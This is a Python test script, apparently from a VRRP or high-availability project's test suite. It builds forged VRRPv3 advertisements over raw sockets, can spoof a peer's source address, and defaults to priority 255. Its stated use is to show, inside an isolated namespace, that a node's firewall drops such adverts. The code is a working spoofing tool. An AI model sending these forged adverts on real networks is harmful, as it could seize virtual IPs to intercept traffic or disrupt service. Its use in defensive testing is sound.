#!/usr/bin/env python3
"""Sends forged VRRPv3 adverts (RFC 5798), as an attacker on the segment would.

The namespace tier runs it in a namespace of its own to show that a node's
firewall drops them. With --source the IP header is written here, so the
advert claims to come from that address (a peer's); the Ethernet source stays
the sender's own MAC.

Bounded: --count adverts, --interval seconds apart.
"""
import argparse
import socket
import struct
import sys
import time

IPPROTO_VRRP = 112


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(source: str, destination: str, vrid: int, priority: int, interval_cs: int, vip: str) -> bytes:
    """The VRRP message; its checksum covers the IPv4 pseudo-header (RFC 5798 5.2.8)."""
    addresses = socket.inet_aton(vip)
    body = struct.pack("!BBBBH", 0x31, vrid, priority, 1, interval_cs & 0x0FFF)
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, IPPROTO_VRRP, len(body) + 2 + len(addresses))
    csum = checksum(pseudo + body + b"\0\0" + addresses)
    return body + struct.pack("!H", csum) + addresses


def ip_header(source: str, destination: str, payload_length: int) -> bytes:
    # TTL 255 as VRRP requires; the kernel fills in the header checksum.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + payload_length, 0, 0, 255, IPPROTO_VRRP, 0, socket.inet_aton(source), socket.inet_aton(destination))


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--from-address", required=True, help="this namespace's own address")
    p.add_argument("--source", help="the source address the adverts claim (default: --from-address)")
    p.add_argument("--destination", required=True, help="a node's address (unicast VRRP) or 224.0.0.18")
    p.add_argument("--vrid", type=int, required=True)
    p.add_argument("--priority", type=int, default=255)
    p.add_argument("--interval-cs", type=int, required=True, help="advert interval in the message, centiseconds")
    p.add_argument("--vip", required=True)
    p.add_argument("--count", type=int, default=20)
    p.add_argument("--interval", type=float, default=0.1, help="seconds between adverts")
    a = p.parse_args()
    if not (1 <= a.count <= 1000 and 0.01 <= a.interval <= 1):
        print("count must be 1-1000 and interval 0.01-1 s", file=sys.stderr)
        return 64
    source = a.source or a.from_address
    message = advert(source, a.destination, a.vrid, a.priority, a.interval_cs, a.vip)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packet = ip_header(source, a.destination, len(message)) + message
    for _ in range(a.count):
        sock.sendto(packet, (a.destination, 0))
        time.sleep(a.interval)
    print(f"sent {a.count} adverts claiming {source}, VRID {a.vrid}, priority {a.priority}, VIP {a.vip}, to {a.destination}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
